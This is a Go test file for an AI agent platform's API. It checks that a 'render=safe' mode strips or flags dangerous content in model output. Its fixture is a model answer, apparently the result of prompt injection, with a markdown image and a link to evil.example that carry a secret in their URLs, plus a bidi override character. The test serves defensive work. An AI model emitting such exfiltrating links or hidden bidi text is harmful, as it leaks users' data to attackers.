package api_test

import (
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/agentplane/agentplane/api"
	"github.com/agentplane/agentplane/api/apitest"
	"github.com/agentplane/agentplane/internal/platform"
	"github.com/agentplane/agentplane/model/scripted"
	"github.com/agentplane/agentplane/store"
)

// exfilAnswer is a final answer a model was steered into writing: an image
// and a link carrying a customer's data in their URLs, a link to the
// tenant's own site, and a bidi override.
const exfilAnswer = "Resolved. ![s](https://evil.example/s.png?d=zq9secret) " +
	"See [your dispute](https://help.example-bank.in/d/1) or [verify](https://evil.example/v?c=zq9secret). \u202Edias\u202C"

// TestClass8RenderSafeOverHTTP is issue 15 class 8 over the API: reads of
// runs and events with ?render=safe neutralise model text under the
// tenant's link domains, a run's output_flags say what was neutralised,
// and the raw reads keep the exact bytes the log holds.
func TestClass8RenderSafeOverHTTP(t *testing.T) {
	script := &scripted.Script{Source: "exfil", Turns: []scripted.Turn{{Text: exfilAnswer}}}
	s := apitest.Start(t, apitest.Options{Platform: func(o *platform.Options) { o.Script = script }})
	f := fixtureOf(t, s)
	id := f.startAsync(priya)
	raw := f.waitStatus(priya, id, store.StatusCompleted)
	if raw.Output != exfilAnswer {
		t.Fatalf("raw output = %q, want the model's exact bytes", raw.Output)
	}
	if want := []string{"bidi", "remote_image", "unlisted_link"}; !slices.Equal(raw.OutputFlags, want) {
		t.Fatalf("output_flags = %v, want %v", raw.OutputFlags, want)
	}

	safeRun := func() api.Run {
		t.Helper()
		var run api.Run
		r := f.do(priya, "GET", "/v1/runs/"+id+"?render=safe", nil)
		if r.status != http.StatusOK {
			t.Fatalf("GET run render=safe: %s", r)
		}
		r.decode(t, &run)
		return run
	}
	noExfil := func(what, s string) {
		t.Helper()
		for _, bad := range []string{"zq9secret", "![", "https://evil", "\u202E"} {
			if strings.Contains(s, bad) {
				t.Fatalf("%s still holds %q: %s", what, bad, s)
			}
		}
	}
	run := safeRun()
	noExfil("safe output", run.Output)
	if want := "Resolved. ⟦image removed: evil.example⟧ See your dispute ⟦link removed: example-bank.in⟧ or verify ⟦link removed: evil.example⟧. ⟨U+202E⟩dias⟨U+202C⟩"; run.Output != want {
		t.Fatalf("safe output = %q, want %q", run.Output, want)
	}
	var list api.RunList
	f.do(priya, "GET", "/v1/runs?render=safe", nil).decode(t, &list)
	if len(list.Runs) != 1 || list.Runs[0].Output != run.Output {
		t.Fatalf("listed safe = %+v", list.Runs)
	}

	var evs api.EventList
	r := f.do(priya, "GET", "/v1/runs/"+id+"/events?render=safe", nil)
	r.decode(t, &evs)
	if r.status != http.StatusOK || evs.Render != "safe" || len(evs.Events) == 0 {
		t.Fatalf("events render=safe: %s", r)
	}
	noExfil("safe events", string(r.body))
	if rawEvs := f.do(priya, "GET", "/v1/runs/"+id+"/events", nil); !strings.Contains(string(rawEvs.body), "zq9secret") {
		t.Fatalf("raw events lost the model's bytes: %s", rawEvs)
	}

	// The tenant lists its help site: links there stay live, only there.
	admin := f.adminKey(bankTenant, meera)
	if r := f.do("", "PUT", "/v1/tenant/settings", map[string]any{"link_domains": []string{"help.example-bank.in"}, "require_alias": false},
		"Authorization", "Bearer "+admin); r.status != http.StatusOK {
		t.Fatalf("settings: %s", r)
	}
	run = safeRun()
	noExfil("safe output with a listed domain", run.Output)
	if !strings.Contains(run.Output, "See [your dispute](https://help.example-bank.in/d/1) or verify ⟦link removed: evil.example⟧") {
		t.Fatalf("safe output with help.example-bank.in listed = %q", run.Output)
	}
	if want := []string{"bidi", "remote_image", "unlisted_link"}; !slices.Equal(run.OutputFlags, want) {
		t.Fatalf("output_flags = %v, want %v", run.OutputFlags, want)
	}

	wantError(t, "render=bogus", f.do(priya, "GET", "/v1/runs/"+id+"?render=bogus", nil), http.StatusBadRequest, "invalid_request")
	wantError(t, "a safe stream", f.do(priya, "GET", "/v1/runs/"+id+"/events?render=safe", nil, "Accept", "text/event-stream"),
		http.StatusBadRequest, "invalid_request")
}
